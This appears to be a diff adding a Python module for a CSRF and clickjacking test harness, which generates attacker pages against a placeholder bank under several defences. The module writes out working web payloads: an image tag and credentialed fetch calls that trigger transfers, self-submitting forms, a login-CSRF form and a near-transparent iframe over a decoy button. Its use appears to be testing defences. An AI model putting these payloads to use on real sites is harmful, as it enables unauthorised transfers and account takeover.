@@ -1,0 +1,74 @@
+"""The attacker's pages: what they make a visitor's browser send to the bank."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+
+BANK, SIBLING, EVIL = "bank.example.org", "guest.example.org", "evil.example.net"
+DEFENCES = ("none", "lax", "strict", "origin", "token", "framing", "all")
+
+AMOUNTS = {"picture": 1, "script": 2, "put": 3, "link": 4, "form": 5, "sibling": 6, "frame": 7}
+"""Attack → what it pays to mallory, by which claims tell one from another."""
+
+ATTACKS = (*AMOUNTS, "login")
+
+VISITS = {"page": EVIL, "form": EVIL, "sibling": SIBLING, "frame": EVIL, "login": EVIL}
+"""The attacker's page → the host that it is on."""
+
+
+def transfer(defence: str) -> str:
+    """Where the bank takes transfers."""
+    return f"https://{BANK}/{defence}/transfer"
+
+
+def pages(defence: str) -> Mapping[str, str]:
+    """Name → HTML of the attacker's pages for one defence."""
+    return {
+        "page": _page(defence),
+        "form": _form(transfer(defence), to="mallory", amount=str(AMOUNTS["form"])),
+        "sibling": _form(transfer(defence), to="mallory", amount=str(AMOUNTS["sibling"])),
+        "frame": _frame(defence),
+        "login": _form(f"https://{BANK}/{defence}/login", user="mallory"),
+    }
+
+
+def _page(defence: str) -> str:
+    """A picture, two requests of a script, and a link that the page follows by itself."""
+    url = transfer(defence)
+
+    def fetch(method: str, attack: str) -> str:
+        body = f"new URLSearchParams({{to: 'mallory', amount: '{AMOUNTS[attack]}'}})"
+        options = f"{{method: '{method}', credentials: 'include', body: {body}}}"
+        return f"fetch('{url}', {options}).catch(() => 0)"
+
+    def address(attack: str) -> str:
+        return f"{url}?to=mallory&amount={AMOUNTS[attack]}"
+
+    requests = f"Promise.all([{fetch('POST', 'script')}, {fetch('PUT', 'put')}])"
+    return (
+        f'<!doctype html><title>Kittens</title><img src="{address("picture")}">'
+        f"<script>{requests}.then(() => {{ location = '{address('link')}' }})</script>\n"
+    )
+
+
+def _form(action: str, **fields: str) -> str:
+    """A form that sends itself."""
+    inputs = "".join(f'<input name="{name}" value="{v}">' for name, v in fields.items())
+    return (
+        f'<!doctype html><title>Kittens</title><form method="post" action="{action}">{inputs}'
+        "</form><script>document.forms[0].submit()</script>\n"
+    )
+
+
+def _frame(defence: str) -> str:
+    """The bank's own form, invisible above a button that promises something else."""
+    url = f"https://{BANK}/{defence}/?to=mallory&amount={AMOUNTS['frame']}"
+    style = "position:absolute;left:0;top:0;width:400px;height:200px;border:0;opacity:0.01"
+    return (
+        "<!doctype html><title>Kittens</title><button>See more kittens</button>"
+        f'<iframe style="{style}" src="{url}"></iframe>\n'
+    )
+
+
+CLICK_AT = (100, 50)
+"""In the frame's button, in pixels."""
